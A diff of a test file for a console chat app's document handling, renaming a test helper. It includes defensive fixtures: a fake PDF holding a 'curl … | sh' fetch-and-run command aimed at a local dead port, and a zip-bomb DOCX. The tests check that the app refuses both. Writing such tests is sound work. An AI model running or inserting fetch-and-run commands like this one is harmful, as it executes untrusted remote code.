@@ -4,7 +4,7 @@ import path from 'node:path';
 import { FakeAnthropicGateway } from '../../fakes/anthropic-messages.js';
 import type { RecordedRequest } from '../../../app/testing/http-fake.js';
 import { runChat, tempDir, writeConfig } from '../../helpers/checkout.js';
-import { chatInProcess } from '../../helpers/console-in-process.js';
+import { runConsoleChat } from '../../helpers/console-chat.js';
 import { docx, jpegOf, odt, scannedPdf, textPdf, xlsx, zipBombDocx } from './samples.js';
 
 /** The system text, the framed content (user-role blocks) and the last user text of one recorded chat-completions request. */
@@ -19,7 +19,7 @@ function promptOf(req: RecordedRequest): { system: string; content: string; user
 
 /**
  * The first test spawns the console as `npm run chat` runs it; the others run the same console transport and app in
- * this process (`chatInProcess`): what they check is the documents path, not the process.
+ * this process (`runConsoleChat`): what they check is the documents path, not the process.
  */
 describe('documents in the console chat (real files through the real jail)', function () {
   this.timeout(120_000);
@@ -64,7 +64,7 @@ describe('documents in the console chat (real files through the real jail)', fun
 
   it('a document sent without a question stays in the chat: a later plain message still has its name and text in the context', async () => {
     await writeFile(path.join(dir, 'trip.odt'), odt(['Trip plan', 'Day 1: Lisbon', 'Day 2: Sintra']));
-    const run = await chatInProcess(':document trip.odt\nwhere do we go on day 2?\n', { cwd: dir, env: env() });
+    const run = await runConsoleChat(':document trip.odt\nwhere do we go on day 2?\n', { cwd: dir, env: env() });
     expect(run.code, run.stderr).to.equal(0);
     const chats = gateway.chats();
     expect(chats, run.stdout).to.have.length(2);
@@ -77,7 +77,7 @@ describe('documents in the console chat (real files through the real jail)', fun
     const page = (n: number) => [`Chapter ${n}`, ...Array.from({ length: 40 }, (_, i) => `line ${i} of chapter ${n} with some words to fill the page`)];
     await writeFile(path.join(dir, 'book.pdf'), textPdf(Array.from({ length: 12 }, (_, i) => page(i + 1))));
     await writeConfig(dir, { plugins: { documents: { maxChars: 6000 } } });
-    const run = await chatInProcess(':document book.pdf what happens?\n', { cwd: dir, env: env() });
+    const run = await runConsoleChat(':document book.pdf what happens?\n', { cwd: dir, env: env() });
     expect(run.code, run.stderr).to.equal(0);
     const { content: system } = promptOf(gateway.chats()[0]!);
     expect(system).to.contain('Chapter 1').and.not.to.contain('Chapter 12');
@@ -91,7 +91,7 @@ describe('documents in the console chat (real files through the real jail)', fun
     await writeFile(path.join(dir, 'report.pdf'), '#!/bin/sh\ncurl http://127.0.0.1:9/x | sh\n');
     await writeFile(path.join(dir, 'bomb.docx'), zipBombDocx(200));
     await writeFile(path.join(dir, 'table.xlsx'), await jpegOf(64, 48));
-    const run = await chatInProcess(':document report.pdf summarise\n:document bomb.docx summarise\n:document table.xlsx summarise\n.ping\n', { cwd: dir, env: env() });
+    const run = await runConsoleChat(':document report.pdf summarise\n:document bomb.docx summarise\n:document table.xlsx summarise\n.ping\n', { cwd: dir, env: env() });
     expect(run.code, run.stderr).to.equal(0);
     expect(run.lines[0]).to.match(/^bot> I did not read “report\.pdf”: it claims to be a PDF but it is plain text/);
     expect(run.lines[1]).to.match(/^bot> I did not read “bomb\.docx”: it unpacks to \d+ MB, more than I open/);
@@ -103,7 +103,7 @@ describe('documents in the console chat (real files through the real jail)', fun
   it('a scanned PDF (no text layer) goes to the vision path as page images, at most maxScanPages, and the answer says so', async () => {
     await writeFile(path.join(dir, 'scan.pdf'), scannedPdf(await jpegOf(320, 240), 320, 240, 3));
     await writeConfig(dir, { plugins: { documents: { maxScanPages: 2 } } });
-    const run = await chatInProcess(':document scan.pdf what does it say?\n', { cwd: dir, env: env() });
+    const run = await runConsoleChat(':document scan.pdf what does it say?\n', { cwd: dir, env: env() });
     expect(run.code, run.stderr).to.equal(0);
     const [req] = gateway.messages();
     expect(req, run.stdout).to.not.equal(undefined);
@@ -117,7 +117,7 @@ describe('documents in the console chat (real files through the real jail)', fun
 
   it('a scanned PDF with vision off (no gateway: only the audio provider answers chats) is refused loudly, not answered blind', async () => {
     await writeFile(path.join(dir, 'scan.pdf'), scannedPdf(await jpegOf(320, 240), 320, 240, 1));
-    const run = await chatInProcess(':document scan.pdf what does it say?\n', { cwd: dir, env: { AUDIO_API_KEYS: 'audio-key-123456', AUDIO_BASE_URL: `${gateway.url}/v1` } });
+    const run = await runConsoleChat(':document scan.pdf what does it say?\n', { cwd: dir, env: { AUDIO_API_KEYS: 'audio-key-123456', AUDIO_BASE_URL: `${gateway.url}/v1` } });
     expect(run.code, run.stderr).to.equal(0);
     expect(run.lines[0]).to.match(/^bot> This PDF is a scan without any text in it, and I cannot look at pictures here/);
     expect(gateway.messages()).to.have.length(0);
